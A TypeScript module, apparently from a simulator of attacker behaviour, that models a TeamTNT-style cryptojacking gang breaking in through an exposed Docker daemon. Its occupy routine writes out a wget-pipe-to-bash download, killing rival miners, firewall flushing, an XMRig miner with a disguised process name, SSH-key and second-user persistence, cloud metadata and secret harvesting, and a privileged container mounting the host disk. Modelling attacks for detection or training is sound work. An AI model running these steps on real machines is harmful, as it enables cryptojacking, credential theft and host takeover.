import type { Foothold, GangForm, GangModel } from '../../gangs/gang.ts'
import { XMRIG_AGENT } from '../../network/cryptonote.ts'
import { type Act, MINUTE_MS } from '../../schedule.ts'
import { raidAccount } from './cloud-thief.ts'
import { baseName, client, fingerprint, type Place, proxyPool, publicPool, someOf, word } from './draw.ts'
import { disableUnits, killByPort, killContainers } from './fighting.ts'
import { preloadHider } from './hiding.ts'
import { askMetadata, gatherSecrets, lookForNext, sendHome } from './looting.ts'
import { secondUser } from './staying.ts'
import { inAnyOrder, inTurn, trick } from './tricks.ts'

const BINARIES = [
  'bioset',
  'dockerd-env',
  '.configure',
  'sbin',
  'docker-update',
  'xmrigMiner',
  'containerd-shm',
] as const
const UNITS = [
  'moneroocean_miner',
  'crypto',
  'scan',
  'docker-cache',
  'sysstat-collect2',
  'cloud-agent',
] as const
const IMAGE_WORDS = [
  'pocosow',
  'gakeaws',
  'azulu',
  'auto',
  'xmr',
  'monero',
  'mine',
  'slowhttp',
  'entrypoint.sh',
]

/**
 * After TeamTNT: in by an open Docker daemon, out of the container onto the host, away with other containers; then a
 * library that hides the miner, an account of its own, and every key of a cloud that it can find.
 */
export const containerCrew: GangModel = {
  name: 'container-crew',
  family: 'TeamTNT',
  form: formed,
}

function formed(place: Place): GangForm {
  const { random, places, skill } = place
  const folder = random.pick([
    '/usr/sbin',
    '/usr/share',
    '/usr/bin',
    '/var/tmp',
    `/etc/.${word(random, 3, 5)}`,
  ])
  const path = `${folder}/${random.pick(BINARIES)}${random.chance(0.3) ? random.integer(1, 9) : ''}`
  const unit = random.pick(UNITS)
  const wallets = [places.wallet(), places.wallet()]
  const downloadName = random.chance(0.6) ? places.name() : null
  const image = random.pick(['alpine', 'ubuntu', 'busybox'])
  return {
    traits: {
      wallets,
      pool: skill === 'high' ? proxyPool(place) : publicPool(place),
      login: (machine, own) => ({
        login: own.pick([wallets[0], wallets[1]]) ?? '',
        pass: machine.facts.name.slice(0, 8),
      }),
      agent: random.pick([XMRIG_AGENT, 'XMRig/6.16.4 (Linux x86_64) libuv/1.42.0 gcc/5.4.0']),
      miner: {
        path,
        comm:
          skill === 'low'
            ? baseName(path).slice(0, 15)
            : random.pick(['bioset', 'kauditd', 'dockerd', 'runc']),
        args: (login, pass) =>
          skill === 'high' ? ['--config=/etc/.cfg'] : ['-u', login, '-p', pass, '--threads=0', '-k'],
        cpuShare: skill === 'high' ? random.between(0.45, 0.7) : random.between(0.75, 0.97),
        knownAs: [unit, baseName(path)],
      },
      sources: [places.source(), places.source()],
      client: client(random),
      download: {
        ip: places.server(),
        name: downloadName,
        paths: [`/sh/${word(random, 3, 6)}.sh`, '/bin/xmrigCC', `/${word(random, 3, 5)}.tar.gz`],
      },
      control: random.chance(0.5)
        ? {
            ip: places.server(),
            name: null,
            port: random.pick([6667, 6697, 8080]),
            everyMs: random.integer(2, 9) * MINUTE_MS,
          }
        : null,
      key: {
        fingerprint: fingerprint(random),
        comment: random.pick(['root@localhost', 'hilda@teamstack', 'dev@box']),
      },
      waysIn: ['docker-api', 'ssh-key', 'ssh-password'],
      spreads: 0.5,
      sells: 0.15,
      returnsAfterMs: random.chance(0.3) ? random.integer(90, 400) * MINUTE_MS : null,
    },
    *occupy(foothold) {
      const { hands, gang } = foothold
      const [script = '/s', binary = '/b'] = gang.traits.download.paths
      if (!hands.isInteractive)
        yield* hands.run([
          'chroot',
          '/mnt',
          'sh',
          '-c',
          `wget -qO- http://${gang.traits.download.ip}${script}|bash`,
        ])
      yield* hands.run(['uname', '-m'])
      yield* inAnyOrder(foothold, [
        trick(0.8, (own) => killContainers(own, someOf(own.random, IMAGE_WORDS, 0.7))),
        trick(0.75, (own) => killByPort(own, someOf(own.random, [3333, 4444, 5555, 7777, 13_333], 0.6))),
        trick(0.5, disableUnits),
        trick(0.3, (own) => own.flushFirewall()),
      ])
      if (!(yield* foothold.fetch(binary, path, { what: 'miner' }))) return
      yield* foothold.changeMode(path, 0o755)
      yield* foothold.startMiner()
      if (foothold.random.chance(0.75)) yield* foothold.addUnit(unit)
      yield* inTurn(foothold, [
        trick(skill === 'low' ? 0.3 : 0.85, preloadHider),
        trick(0.6, (own) => own.chattr('+i', path)),
        trick(0.5, secondUser),
        trick(0.6, addKey),
        trick(0.7, askMetadata),
        trick(0.6, gatherSecrets),
        trick(0.5, sendHome),
        trick(0.5, lookForNext),
        trick(0.4, (own) => hideDocker(own, image)),
      ])
      yield* hands.builtin('history -c')
    },
    ...(random.chance(0.9) ? { raid: raidAccount } : {}),
    *lookAfter(foothold) {
      yield* foothold.hands.run(['docker', 'ps', '-a'], { replyBytes: 240 })
      yield* inTurn(foothold, [trick(0.5, gatherSecrets), trick(0.3, lookForNext)])
    },
  }
}

function* addKey(foothold: Foothold): Act {
  yield* foothold.addKey('append')
}

/** A container that starts with the machine and has its whole disk. */
function* hideDocker(foothold: Foothold, image: string): Act {
  if (!foothold.isRoot) return
  yield* foothold.hands.run([
    'docker',
    'run',
    '-d',
    '--restart',
    'always',
    '--privileged',
    '-v',
    '/:/host',
    '--name',
    word(foothold.random, 5, 9),
    image,
    'sleep',
    'infinity',
  ])
}
